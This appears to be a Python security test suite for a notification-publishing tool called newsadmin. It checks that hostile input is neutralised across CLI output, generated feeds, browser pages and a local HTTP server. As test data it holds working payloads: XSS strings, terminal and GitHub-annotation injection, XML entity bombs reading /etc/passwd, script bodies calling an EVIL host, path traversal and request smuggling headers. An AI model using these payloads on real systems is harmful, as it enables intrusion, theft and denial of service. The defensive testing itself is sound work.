"""A workspace in which every text is an attack: what comes of it in every output, in a browser, and over HTTP."""

import contextlib
import html.parser
import json
import os
import pathlib
import plistlib
import re
import resource
import subprocess
import tempfile
import unittest
import xml.etree.ElementTree as XML

import attacked
from attacks import ADDRESSES, COMMANDS, CONTROLS, EVIL, LINES, MARKUP, PATHS, obeyed, yaml
from fcm import Firebase
from serving import Server
from watched import UNSAFE, Watched
from workspace import BINARY, NOW, newsadmin, tree, write

PERSON = "\" onmouseover=self.attacked=1 {{title}} [x](https://attacker.example) @octocat `c` | & Eve\u0301\u202e <img/src=x/onerror=self.attacked=1>"
NOTE = MARKUP[0] + " [x](https://attacker.example/) @octocat | `\x1b[31m\u202e\r\n::error::INJECTED"
WRITER = {"GIT_AUTHOR_NAME": "<script>G</script>\x1b[31m\u202e", "GIT_AUTHOR_EMAIL": "g@h\x1b]0;x\x07", "GIT_COMMITTER_NAME": "C", "GIT_COMMITTER_EMAIL": "c@h"}
CLIENTS = ["inotify", "notable", "ismartnews", "sourse"]


# What views are made of, and what Markdown adds to them.
TAGS = set("html head meta title style body button main header h1 div nav script p pre code blockquote ul ol li h2 h3 hr em strong a br img".split())
ATTRIBUTES = set("lang dir charset name content type class data-do data-url data-done aria-label href src alt title start".split())

# An image from elsewhere is allowed in a text, with a warning; on the dashboard the browser says that it was kept from loading it.
IMAGE = re.compile(r"Loading the image '[^']*' violates .* \"img-src data:\"")


class Run:
    """What a verb said, byte by byte: reading it as text would hide carriage returns."""

    def __init__(self, folder, *arguments, limit=None):
        def limited():
            if limit:
                resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

        self.arguments = arguments
        result = subprocess.run([BINARY, *arguments], cwd=folder, capture_output=True, timeout=300, preexec_fn=limited)
        self.status, self.out, self.messages = result.returncode, result.stdout.decode(), result.stderr.decode()

    @property
    def json(self):
        return json.loads(self.out)


class Attacked:
    """The workspace after every verb, and what each did; those that only tell something are left out unless somebody reads that."""

    def __init__(self, case, is_told):
        scratch = tempfile.TemporaryDirectory(prefix="attacks")
        case.addClassCleanup(scratch.cleanup)
        self.folder, self.runs = pathlib.Path(scratch.name, "workspace"), []
        self.folder.mkdir()
        attacked.make(self.folder)
        subprocess.run(["git", "init", "--quiet"], cwd=self.folder, check=True)
        subprocess.run(["git", "add", "--all"], cwd=self.folder, check=True)
        subprocess.run(["git", "commit", "--quiet", "--message", "x"], cwd=self.folder, check=True, env={**os.environ, **WRITER})
        first, second, last = (attacked.identity(number) for number in (0, 1, 2))
        if is_told:
            for form in ("text", "json", "github", "sarif"):
                self.run("check", "--format", form)
        self.run("build")
        if is_told:
            for client in CLIENTS:
                self.run("simulate", "--client", client)
                self.run("simulate", "--client", client, "--json")
            for form in ([], ["--matrix"], ["--json"], ["--matrix", "--json"], ["--ics"]):
                self.run("schedule", *form)
            self.run("test", status=1)
            self.run("forecast", "--days", "2")
            self.run("forecast", "--days", "2", "--json")
            self.run("translate", "status")
            self.run("translate", "status", "--json")
            for form in ("xliff", "xliff2", "po"):
                self.run("translate", "export", "--locale", "fr", "--all", "--format", form, "--output", f"../fr.{form}")
        for locale in ("en", "fr"):
            self.run("approve", "--all", "--yes", "--locale", locale, "--reviewer", PERSON, "--note", NOTE)
            self.run("release", locale, "--author", PERSON, "--note", NOTE, status=None)
        write(self.folder, {f"campaigns/{attacked.identity(number)}.md": attacked.changed(number) for number in range(0, 20)})
        if is_told:
            for form in ([], ["--markdown"], ["--json"]):
                self.run("diff", *form, status=None)
            for form in ([], ["--json"]):
                self.run("status", *form)
                self.run("log", "en", *form)
                self.run("log", "--key", attacked.short(0), *form)
                self.run("verify", *form)
                self.run("push", first, second, "--locale", "en", "--dry-run", *form, status=None)
                self.run("build", *form, status=None)
        self.run("withdraw", last, "--locale", "en", "--author", PERSON, "--reason", NOTE, status=None)
        self.run("rollback", "en", "--to", "1", "--author", PERSON, "--note", NOTE, status=None)
        self.run("deploy", "en")
        if is_told:
            self.run("verify", "site", status=None)
        self.run("build", status=None)

    def run(self, *arguments, status=0):
        done = Run(self.folder, *arguments, "--now", NOW)
        self.runs.append(done)
        if status is not None and done.status != status:
            raise AssertionError(f"{arguments}: {done.status}\n{done.out[-2000:]}\n{done.messages[-2000:]}")

    def said(self, *words):
        """The run whose arguments begin with these."""
        return next(run for run in self.runs if run.arguments[: len(words)] == words)


class Elements(html.parser.HTMLParser):
    """The tags of a page with the names of their attributes, and the text of its heading."""

    def __init__(self, page):
        super().__init__()
        self.tags, self.heading, self.title, self.within = [], "", "", None
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append((tag, sorted(name for name, _ in attributes)))
        self.within = tag

    def handle_endtag(self, tag):
        self.within = None

    def handle_data(self, data):
        if self.within == "h1":
            self.heading += data
        if self.within == "title":
            self.title += data


class Printed(unittest.TestCase):
    """What is printed obeys nobody, and holds the very texts."""

    @classmethod
    def setUpClass(cls):
        cls.attacked = Attacked(cls, is_told=True)

    def test_every_verb_shows_what_a_terminal_would_obey(self):
        self.assertGreater(len(self.attacked.runs), 45)
        for run in self.attacked.runs:
            with self.subTest(run.arguments):
                self.assertEqual(obeyed(run.messages), ([], []))
                if "--ics" not in run.arguments:
                    self.assertEqual(obeyed(run.out), ([], []))

    def test_what_was_written_would_have_been_found(self):
        for text in [*COMMANDS, *(line for line in LINES if "INJECTED" in line and "%0A" not in line)]:
            self.assertNotEqual(obeyed(f"title: {text}\n"), ([], []), text)

    def test_json_is_json_and_says_the_very_texts(self):
        told = [run for run in self.attacked.runs if "--json" in run.arguments or "json" in run.arguments or "sarif" in run.arguments]
        self.assertGreater(len(told), 15)
        for run in told:
            with self.subTest(run.arguments):
                self.assertTrue(run.json)
        texts = set(strings(self.attacked.said("schedule", "--matrix", "--json").json)) | set(strings(self.attacked.said("status", "--json").json))
        missing = [attacked.text(number) for number in range(20, len(attacked.TEXTS)) if attacked.text(number) not in texts]
        self.assertEqual(missing, [])

    def test_a_line_for_github_is_one_command(self):
        lines = self.attacked.said("check", "--format", "github").out.split("\n")
        self.assertEqual(lines.pop(), "")
        self.assertGreater(len(lines), 300)
        for line in lines:
            self.assertRegex(line, r"^::(error|warning|notice) file=[^:,]+,line=\d+,col=\d+,title=[a-z-]+::.*$")
            self.assertEqual(re.findall(r"%(?!25|0A|0D|3A|2C)", line), [])

    def test_sarif_names_files_by_addresses(self):
        results = self.attacked.said("check", "--format", "sarif").json["runs"][0]["results"]
        self.assertEqual(len(results), len(self.attacked.said("check", "--format", "json").json["findings"]))
        for result in results:
            self.assertRegex(result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"], r"^[\w.~/%-]+$")

    def test_a_calendar_has_no_lines_but_its_own(self):
        calendar = self.attacked.said("schedule", "--ics").out
        self.assertEqual(re.findall("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u2028\u2029]|\r(?!\n)|(?<!\r)\n", calendar), [])
        lines = calendar.replace("\r\n ", "").split("\r\n")
        names = {line.partition(":")[0] for line in lines if line}
        self.assertEqual(names, {"BEGIN", "END", "VERSION", "PRODID", "X-WR-CALNAME", "UID", "DTSTAMP", "DTSTART", "SUMMARY", "DESCRIPTION", "TRANSP"})
        self.assertEqual(lines.count("BEGIN:VEVENT"), lines.count("END:VEVENT"))
        self.assertNotIn("BEGIN:VALARM", lines)

    def test_a_difference_in_markdown_has_no_markup_of_others(self):
        text = self.attacked.said("diff", "--markdown").out
        self.assertIn("**2026", text)
        for block in re.findall(r"<pre[^>]*>(.*?)</pre>", text, re.DOTALL):
            self.assertEqual(re.findall(r"<(?!/?(?:b|ins|del|span)>)", block), [])
        plain = re.sub(r"<pre[^>]*>.*?</pre>", "", text, flags=re.DOTALL)
        for mark in (r"\]\(", r"!\[", r"\]:", r"https?:", r"www\.", r"(?<!&)#\d", r"@", r"<(?!br>|!-- -->|/?details>|/?summary>|/?pre>)", r"~~", r":smile:", r"\$"):
            self.assertEqual(re.findall(f".{{0,30}}{mark}.{{0,30}}", plain), [], mark)
        for table in re.findall(r"(?:^\|.*\n)+", plain, re.MULTILINE):
            self.assertEqual(len({row.count("|") for row in table.splitlines()}), 1, table[:400])

    def test_controls_are_shown_where_names_and_notes_hold_them(self):
        for verb in (["approve", "--all", "--yes", "--reviewer", "A\x1b[31m"], ["release", "en", "--author", "A\nB"], ["log", "en", "--key", "\x1b]0;t\x07"],
                     ["build", "--locale", "\x1b[31m"], ["check", "--explain", "\x1b[31m"], ["simulate", "--feed", "\x1b[31m\r\n::error::INJECTED", "--client", "inotify"]):
            done = Run(self.attacked.folder, *verb, "--now", NOW)
            self.assertEqual(obeyed(done.out + done.messages), ([], []), verb)


def strings(value):
    """All texts in a value of JSON."""
    if isinstance(value, str):
        yield value
    for part in value.values() if isinstance(value, dict) else value if isinstance(value, list) else []:
        yield from strings(part)


class Files(unittest.TestCase):
    """What is written holds the very texts, and nothing more."""

    @classmethod
    def setUpClass(cls):
        cls.scratch = tempfile.TemporaryDirectory(prefix="attacked")
        cls.addClassCleanup(cls.scratch.cleanup)
        cls.folder = pathlib.Path(cls.scratch.name, "workspace")
        cls.folder.mkdir()
        attacked.make(cls.folder)
        newsadmin("build", "--now", "2026-11-29T09:00:00Z", folder=cls.folder)
        cls.numbers = range(len(attacked.TEXTS))
        cls.public = cls.folder / "public"

    def test_nothing_is_written_elsewhere(self):
        self.assertEqual([path.name for path in pathlib.Path(self.scratch.name).iterdir()], ["workspace"])
        self.assertEqual({path.name for path in self.folder.iterdir()}, {"newsadmin.yml", "campaigns", "journeys", "public", ".newsadmin"})
        for path in tree(self.public):
            self.assertRegex(path, r"^[\w./-]+$")

    def test_inotify(self):
        feed = plistlib.loads((self.public / "feeds/inotify/en.plist").read_bytes())
        self.assertEqual(set(feed), {attacked.short(number) for number in self.numbers})
        for number in self.numbers:
            message = feed[attacked.short(number)]
            self.assertEqual((message["Title"], message["ActionButton"]), (attacked.text(number), attacked.text(number + 1)))
            self.assertEqual(message["ActionURL"], f"https://ok.example/?q={number}&amp;x='a")
            self.assertEqual(set(message), {"Title", "Message", "ActionURL", "ActionButton"})

    def test_ismartnews(self):
        items = plistlib.loads((self.public / "feeds/ismartnews/en.plist").read_bytes())
        texts = set(strings(items))
        for number in self.numbers:
            form = attacked.FORMS[number % 3]
            if form != "page":
                self.assertIn(attacked.text(number), texts)
                self.assertIn(attacked.text(number + 5), texts)
            if form != "message":
                self.assertIn("u" + attacked.short(number + 40), texts)

    def test_sourse(self):
        messages = json.loads((self.public / "push/en.json").read_bytes())
        self.assertEqual(len(messages), len(self.numbers))
        for number in self.numbers:
            silent, standard = messages[attacked.identity(number)]
            data = silent["data"]
            self.assertEqual((data["title"], data["tag"]), (attacked.text(number), "s" + attacked.short(number + 60)))
            self.assertEqual(standard["notification"]["title"], attacked.text(number))

    def test_notable_and_its_views(self):
        control = json.loads((self.public / "feeds/notable/en/control.json").read_bytes())
        for number in self.numbers:
            notification = control[attacked.short(number + 20)]
            self.assertEqual(notification["conditions"]["any"]["flagNotSet"], attacked.short(number + 30))
            for name, view in notification["views"].items():
                self.assertEqual(view["file"], f"https://news.example.com/feeds/notable/en/views/{attacked.identity(number)}/{name}.html")
                page = Elements((self.public / f"feeds/notable/en/views/{attacked.identity(number)}/{name}.html").read_bytes().decode())
                shown = attacked.text(number)
                self.assertEqual([line.strip() for line in re.split("\r\n?|\n", page.heading)], [line.strip() for line in re.split("\r\n?|\n", shown)])
                tags = [tag for tag, _ in page.tags]
                self.assertEqual([tags.count(tag) for tag in ("html", "head", "body", "title", "script", "style", "h1")], [1] * 7)
                self.assertLessEqual(set(tags), TAGS)
                self.assertLessEqual({name for _, names in page.tags for name in names}, ATTRIBUTES)

    def test_translators_get_and_return_the_very_texts(self):
        for form in ("xliff", "xliff2"):
            with self.subTest(form), tempfile.TemporaryDirectory() as other:
                attacked.make(other)
                newsadmin("translate", "export", "--locale", "fr", "--all", "--format", form, "--output", "fr.xlf", folder=other)
                root = XML.parse(pathlib.Path(other, "fr.xlf")).getroot()
                self.assertNotIn("script", {element.tag.rpartition("}")[2] for element in root.iter()})
                text = pathlib.Path(other, "fr.xlf").read_text()
                filled = re.sub(r"(<source[^>]*>)(.*?)</source>(\s*)(?:<target[^>]*>.*?</target>|<target[^>]*/>)?", r"\1\2</source>\3<target>\2</target>", text, flags=re.DOTALL)
                pathlib.Path(other, "back.xlf").write_text(filled)
                done = Run(other, "translate", "import", "back.xlf", "--now", NOW)
                self.assertEqual(obeyed(done.out + done.messages), ([], []))
                # A paragraph that would begin with a tag cannot be written, and keeps its campaign from being.
                self.assertEqual([line for line in done.messages.splitlines() if "lost-placeholder" not in line], [])
                refused = [number for number in self.numbers if f"a{number}.fr.md" not in done.out]
                self.assertLess(len(refused), 6)
                newsadmin("build", "--now", "2026-11-29T09:00:00Z", folder=other)
                english, french = (plistlib.loads(pathlib.Path(other, f"public/feeds/inotify/{locale}.plist").read_bytes()) for locale in ("en", "fr"))
                for number in set(self.numbers) - set(refused):
                    key = attacked.short(number)
                    # Translators have no line ends in a title.
                    self.assertEqual(french[key]["Title"].split(), english[key]["Title"].split())

    def test_firebase_gets_the_very_texts(self):
        with tempfile.TemporaryDirectory() as other, contextlib.ExitStack() as stack:
            write(other, {
                "newsadmin.yml": "sourceLocale: en\nbaseURL: https://news.example.com/feeds/\nclients: {sourse: {topic: news, project: acme-app}}\nrelease: {approvals: 0}\n",
                **{f"campaigns/a{number}.md": f"---\ntitle: {yaml(attacked.text(number))}\nsourse: {{immediate: true}}\n---\nText\n" for number in self.numbers},
            })
            firebase = Firebase(stack.enter_context(tempfile.TemporaryDirectory()))
            stack.callback(firebase.stop)
            newsadmin("release", "en", "--now", NOW, folder=other)
            newsadmin("push", *(f"a{number}" for number in self.numbers), "--locale", "en", "--now", NOW, "--endpoint", firebase.url, "--credentials", str(firebase.account), "--rate", "600", folder=other)
            self.assertEqual(firebase.problems, [])
            taken = {text for message in firebase.taken for text in strings(message)}
            self.assertEqual([number for number in self.numbers if attacked.text(number) not in taken], [])


class Refused(unittest.TestCase):
    """Input that means harm and can mean nothing else."""

    def setUp(self):
        scratch = tempfile.TemporaryDirectory(prefix="refused")
        self.addCleanup(scratch.cleanup)
        self.folder = pathlib.Path(scratch.name, "workspace")
        write(self.folder, {"newsadmin.yml": "sourceLocale: en\nbaseURL: https://news.example.com/feeds/\nclients: {inotify: {}, notable: {}, ismartnews: {}, sourse: {topic: news}}\n"})

    def findings(self, severity="error"):
        done = Run(self.folder, "check", "--json", "--now", NOW)
        return {(finding["file"].removeprefix("campaigns/"), finding["line"], finding["column"], finding["rule"]) for finding in done.json["findings"] if finding["severity"] == severity}

    def test_controls_that_no_feed_can_hold_are_found_where_they_stand(self):
        files, expected = {}, set()
        for number, control in enumerate(CONTROLS):
            head = f"---\ntitle: {yaml('A' + control)}\ninotify: {{key: {yaml(f'k{number}' + control)}}}\n"
            files[f"campaigns/a{number}.md"] = f"{head}vars: {{a: {yaml(control)}}}\n---\nB\n"
            expected |= {(f"a{number}.md", 2, 8, "control-character"), (f"a{number}.md", 3, 16, "control-character"), (f"a{number}.md", 4, 11, "control-character")}
            if control != "\0":
                files[f"campaigns/b{number}.md"] = f"---\ntitle: A\ninotify: {{key: b{number}}}\n---\n\nB{control}C\n"
                expected.add((f"b{number}.md", 6, 2, "control-character"))
        write(self.folder, files)
        found = self.findings()
        self.assertEqual((sorted(expected - found)[:5], sorted(found - expected)[:5]), ([], []))

    def test_addresses_that_run_something_become_no_link(self):
        write(self.folder, {
            f"campaigns/a{number}.md": f"---\ntitle: A\ninotify: {{key: k{number}}}\naction: {{url: {yaml(address)}, label: L}}\n---\n\nB\n\n<!-- more -->\n\n[x](<{re.sub('[<>]|[^ -~]', '', address)}>) <{address}>\n"
            for number, address in enumerate(ADDRESSES)
        })
        found = self.findings()
        for number, address in enumerate(ADDRESSES):
            if not address.startswith("https://"):
                self.assertIn((f"a{number}.md", 4, 15, "action-address"), found, address)
        for path in sorted((self.folder / "campaigns").iterdir()):
            text = path.read_text()
            path.write_text(re.sub(r"(?m)^action: .*\n", "", text).replace("title: A\n", "title: A\ndraft: true\n"))
        newsadmin("build", "--now", NOW, folder=self.folder, expected=None)
        views = list((self.folder / "public").rglob("previews/**/full.html"))
        self.assertGreater(len(views), 10)
        for view in views:
            for href in re.findall(r'<a href="([^"]*)"', view.read_text()):
                self.assertRegex(href, r"^https?:/[^\s\\]+$")

    def test_names_of_files(self):
        names = ["a b.md", "<script>.md", "a\nb.md", "a\r\n::error::INJECTED.md", "\x1b[31m.md", "é.md", "--help.md", "-rf.md", "a\\b.md", "a\u202egnp.md", "{{x}}.md", "'\"`$(id).md", "::error::x.md", "a%2e%2e%2fb.md", "x" * 150 + ".md"]
        write(self.folder, {f"campaigns/{name}": "---\ntitle: A\n---\nB\n" for name in names})
        (self.folder / os.fsdecode(b"campaigns/\xff\xfe.md")).write_bytes(b"---\ntitle: A\n---\nB\n")
        for arguments in (["check"], ["check", "--format", "github"], ["check", "--json"], ["check", "--format", "sarif"], ["build"], ["status"]):
            done = Run(self.folder, *arguments, "--now", NOW)
            self.assertEqual(obeyed(done.out + done.messages), ([], []), arguments)
        self.assertEqual(len([finding for finding in self.findings() if finding[3] == "bad-id"]), len(names) + 1)

    def test_names_of_views_and_templates_lead_nowhere(self):
        for number, path in enumerate(PATHS):
            write(self.folder, {
                f"campaigns/2026-11-20-a{number}.md": f"---\ntitle: A\nclients: [notable]\nnotable: {{views: {{banner: {{}}, {yaml(path)}: {{height: 100}}}}}}\n---\nB\n",
                f"campaigns/2026-11-20-b{number}.md": f"---\ntitle: A\nclients: [notable]\ntemplate: {yaml(path)}\n---\n![x](<{path}>)\n",
            })
        before = tree(self.folder.parent)
        done = Run(self.folder, "build", "--now", NOW)
        self.assertEqual(done.status, 1)
        after = {path for path in tree(self.folder.parent) if path not in before}
        self.assertEqual([path for path in after if not path.startswith(("workspace/public/", "workspace/.newsadmin/"))], [])
        rules = {(finding[0], finding[3]) for finding in self.findings()}
        for number, path in enumerate(PATHS):
            self.assertIn((f"2026-11-20-b{number}.md", "bad-template"), rules, path)
            if not re.fullmatch(r"[A-Za-z0-9][\w.-]*", path):
                self.assertIn((f"2026-11-20-a{number}.md", "notable-view-name"), rules, path)

    def test_bombs_and_entities_are_refused_soon_and_small(self):
        entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
        plist = '<plist version="1.0"><dict><key>a</key><dict><key>Title</key><string>{}</string></dict></dict></plist>'
        xliff = '<xliff version="1.2"><file original="a" source-language="en" target-language="fr" datatype="x"><body><trans-unit id="../../a"><source>x</source><target>{}</target></trans-unit></body></file></xliff>'
        packed = subprocess.run("head -c 300000000 /dev/zero | gzip", shell=True, capture_output=True, check=True).stdout
        head = '<?xml version="1.0"?><!DOCTYPE x [{}]>'
        bombs = {
            "laughs.plist": head.format(entities) + plist.format("&a9;"), "quadratic.plist": head.format(f'<!ENTITY a "{"x" * 50000}">') + plist.format("&a;" * 50000),
            "outside.plist": head.format('<!ENTITY a SYSTEM "file:///etc/passwd">') + plist.format("&a;"), "deep.plist": '<plist version="1.0">' + "<array>" * 200000,
            "packed.plist": packed, "deep.json": "[" * 2000000, "surrogate.json": '{"a": {"views": {"banner": {"file": "https://a.example/\\ud800"}}}}', "overlong.json": b'{"a\xc0\xae\xff": {}}',
            "laughs.xlf": head.format(entities) + xliff.format("&a9;"), "outside.xlf": head.format('<!ENTITY a SYSTEM "file:///etc/passwd">') + xliff.format("&a;"),
            "deep.xlf": '<xliff version="1.2">' + "<group>" * 200000, "outside.po": 'msgctxt "../../../x.fr.title"\nmsgid "a"\nmsgstr "\x1b[31m"\n',
        }
        write(self.folder, {"campaigns/2026-11-20-a.md": "---\ntitle: A\n---\nB\n", **bombs})
        before = set(tree(self.folder.parent))
        for name in bombs:
            with self.subTest(name):
                verb = ["translate", "import", name] if name.endswith(("xlf", "po")) else ["import", name, "--client", "notable" if name.endswith("json") else "inotify", "--locale", "en"]
                done = Run(self.folder, *verb, "--now", NOW, limit=4 << 30)
                self.assertEqual(done.status, 1, done.messages[:500])
                self.assertRegex(done.messages, rf"^{re.escape(name)}:\d+:\d+: error: .*\[(import-unreadable|exchange-file|exchange-row)\]")
                self.assertEqual(obeyed(done.out + done.messages), ([], []))
                self.assertNotIn("root:", done.out + done.messages)
        self.assertEqual({path for path in tree(self.folder.parent) if not path.startswith("workspace/.newsadmin/")} - before, set())


class Pages(Watched):
    """Every page from disk: whatever is touched, nothing of the attacker runs, nothing is asked of anybody."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.folder = Attacked(cls, is_told=False).folder

    def test_a_page_that_is_attacked_is_noticed(self):
        with tempfile.TemporaryDirectory() as other:
            page, events = self.watch("file:")
            write(other, {"a.html": UNSAFE, "b.html": "<title>T</title><iframe sandbox='allow-scripts' src='a.html'></iframe>", "c.html": f"<title>T</title><script>location = '{EVIL}'</script>"})
            for name, wanted in {"a": ["console: ATTACKED", f"request: {EVIL}", "script in the page"], "b": ["console: ATTACKED", f"request: {EVIL}"], "c": [f"request: {EVIL}"]}.items():
                with contextlib.suppress(Exception):
                    self.attack(page, events, pathlib.Path(other, f"{name}.html").as_uri())
                for event in wanted:
                    self.until(page, lambda: event in events or event == "script in the page" and page.evaluate("self.attacked"), f"{name}: {event}")

    def test_nothing_of_the_attacker_runs_on_any_page(self):
        page, events = self.watch("file:")
        paths = [path for path in sorted((self.folder / "public").rglob("*.html")) if not {"feeds", "previews"} & set(path.parts)]
        self.assertGreater(len(paths), len(attacked.TEXTS) + 10)
        for path in paths:
            found = self.attack(page, events, path.as_uri())
            self.assertEqual([event for event in found if not IMAGE.search(event)], [], path.name)

    def test_views_that_may_run_scripts_get_nowhere(self):
        hidden = "s\" + \"rc"
        bodies = [
            f'<script>self["fe" + "tch"]("{EVIL}")</script>', f'<script>new self["Ima" + "ge"]()["{hidden}"] = "{EVIL}"</script>',
            f'<script>setTimeout("loc" + "ation.href = \'{EVIL}\'")</script>', f'<script>try {{ top.location.href = "{EVIL}" }} catch {{}}</script>', f'<script>open("{EVIL}")</script>',
            f'<form action="{EVIL}" method="post"><input type="submit" id="s"></form><script>document.getElementById("s").click()</script>',
            f'<a id="a" href="{EVIL}" target="_top" ping="{EVIL}">x</a><script>document.getElementById("a").click()</script>',
            '<script>for (const other of [parent, top]) try { other.document.title = "ATTACKED"; other.attacked = 1 } catch {}</script>',
            '<script>for (const call of ["openUrl", "display", "setFlag", "fit", "__proto__"]) parent.postMessage({newsadmin: {call, arguments: ["<img src=x onerror=alert(1)>", "javascript:alert(1)"]}}, "*")</script>',
            *(f'<script>const e = document.createElement("{tag}"); e["{hidden}"] = "{EVIL}"; document.body.append(e)</script>' for tag in ("ifr\" + \"ame", "scr\" + \"ipt", "vid\" + \"eo")),
            f'<p style="background: u\\72l({EVIL})">x</p><p style="background: u&#114;l({EVIL})">x</p>', f'<style>@\\69mport "{EVIL}"; @font-face {{ font-family: x; s\\72c: u\\72l({EVIL}) }} p {{ font-family: x }}</style>',
        ]
        with tempfile.TemporaryDirectory() as other:
            write(other, {
                "newsadmin.yml": "sourceLocale: en\nbaseURL: https://news.example.com/feeds/\nunsafeHTML: true\nclients: {notable: {}, ismartnews: {}}\n",
                **{f"campaigns/a{number}.md": f"---\ntitle: T\nismartnews: {{form: page}}\n---\n\nB\n\n<div>{body}</div>\n" for number, body in enumerate(bodies)},
            })
            newsadmin("build", "--now", NOW, folder=other)
            page, events = self.watch("file:")
            for number in range(len(bodies)):
                found = self.attack(page, events, pathlib.Path(other, f"public/campaigns/a{number}.html").as_uri())
                # The browser says what it refused.
                refused = ("Content Security Policy", "sandboxed", "Unsafe attempt", "Blocked opening", "Blocked form", "Failed to read a named property", "net::ERR", "Not allowed to", "Failed to fetch")
                self.assertEqual([event for event in found if not any(word in event for word in refused)], [], bodies[number])


class Served(Watched):
    """The same over HTTP, and those who ask the server in bad ways."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.server = Server(Attacked(cls, is_told=False).folder, "--now", NOW)
        cls.addClassCleanup(cls.server.stop)
        cls.host = f"{cls.server.host}:{cls.server.port}"

    def test_nothing_of_the_attacker_runs_on_pages_with_the_bar(self):
        page, events = self.watch(self.server.url)
        page.route("**/~serve/now", lambda route: route.abort())
        paths = ["", "~serve/", "releases/en.html", "releases.html", "feeds.html", "schedule.html", "devices.html", *(f"campaigns/{attacked.identity(number)}.html" for number in range(0, len(attacked.TEXTS), 6))]
        for path in paths:
            found = self.attack(page, events, self.server.url + path)
            self.assertEqual([event for event in found if "ERR_FAILED" not in event and not IMAGE.search(event)], [], path)

    def test_what_it_says_of_requests_cannot_be_obeyed(self):
        for request in (b"GET /\x1b[31m HTTP/1.1\r\n", b"\x1b]0;t\x07 / HTTP/1.1\r\n", b"GET /%1b%5b31m HTTP/1.1\r\n", b"GET /<script> HTTP/1.1\r\n"):
            answer = self.server.raw(request + f"Host: {self.host}\r\nConnection: close\r\n\r\n".encode()).decode("latin-1")
            self.assertRegex(answer, r"^HTTP/1\.1 (400|404) ")
            self.assertNotIn("text/html", answer)
            self.assertNotIn("\x1b", answer)
        self.assertEqual(obeyed(self.server.log()), ([], []))

    def test_nobody_else_is_answered(self):
        for host in ("attacker.example", f"attacker.example:{self.server.port}", f"127.0.0.1.attacker.example:{self.server.port}", "localhost.attacker.example", f"[::1]:{self.server.port}.", "127.0.0.1@attacker.example", "0", f"2130706433:{self.server.port}", f"127.1:{self.server.port}", ""):
            answer = self.server.raw(f"GET / HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
            self.assertRegex(answer, rb"^HTTP/1\.1 4\d\d ", host)
        for headers in ({"Origin": "https://attacker.example"}, {"Origin": "null"}, {"Sec-Fetch-Site": "cross-site"}, {"Sec-Fetch-Site": "same-site"}, {"Origin": f"http://localhost.attacker.example:{self.server.port}"}):
            self.assertEqual(self.server.ask("/~serve/events", headers=headers)[0], 403, headers)
            self.assertEqual(self.server.ask("/~serve/now", "POST", headers, "clock")[0], 403, headers)
        for method in ("POST", "PUT", "DELETE", "OPTIONS", "TRACE", "CONNECT", "get", "PROPFIND"):
            self.assertGreaterEqual(self.server.ask("/", method)[0], 400, method)
        self.assertEqual(self.server.ask("/")[1]["content-security-policy"], "frame-ancestors 'none'")

    def test_no_way_out_of_the_folder_and_no_second_request(self):
        ways = ["/../newsadmin.yml", "/..%2fnewsadmin.yml", "/%2e%2e/newsadmin.yml", "/.%2e/newsadmin.yml", "/feeds/..%5c..%5cnewsadmin.yml", "/..%c0%afnewsadmin.yml", "/%252e%252e/newsadmin.yml", "//etc/passwd",
                "/feeds/%00/../newsadmin.yml", "/newsadmin.yml", "/.newsadmin/", "/campaigns/../../newsadmin.yml", "/%ef%bc%8e%ef%bc%8e/newsadmin.yml", "file:///etc/passwd", f"http://{self.host}/../newsadmin.yml", "/..;/newsadmin.yml"]
        for way in ways:
            answer = self.server.raw(f"GET {way} HTTP/1.1\r\nHost: {self.host}\r\nConnection: close\r\n\r\n".encode())
            self.assertRegex(answer, rb"^HTTP/1\.1 4\d\d ", way)
            self.assertNotIn(b"sourceLocale", answer)
            self.assertNotIn(b"root:", answer)
        hidden = f"GET /feeds/inotify/en.plist HTTP/1.1\r\nHost: {self.host}\r\n\r\n"
        for fields in ("Content-Length: 0\r\nTransfer-Encoding: chunked", "Transfer-Encoding: chunked\r\nContent-Length: 5", "Content-Length: 5\r\nContent-Length: 0", "Content-Length: +0", "Content-Length: 0, 5", "Transfer-Encoding : chunked", "X: a\r\n b", "X: a\nTransfer-Encoding: chunked"):
            answer = self.server.raw(f"GET / HTTP/1.1\r\nHost: {self.host}\r\n{fields}\r\n\r\n0\r\n\r\n{hidden}".encode())
            self.assertEqual(len(re.findall(rb"HTTP/1\.1 \d\d\d", answer)), 1, fields)
            self.assertRegex(answer, rb"^HTTP/1\.1 4\d\d ", fields)


if __name__ == "__main__":
    unittest.main()
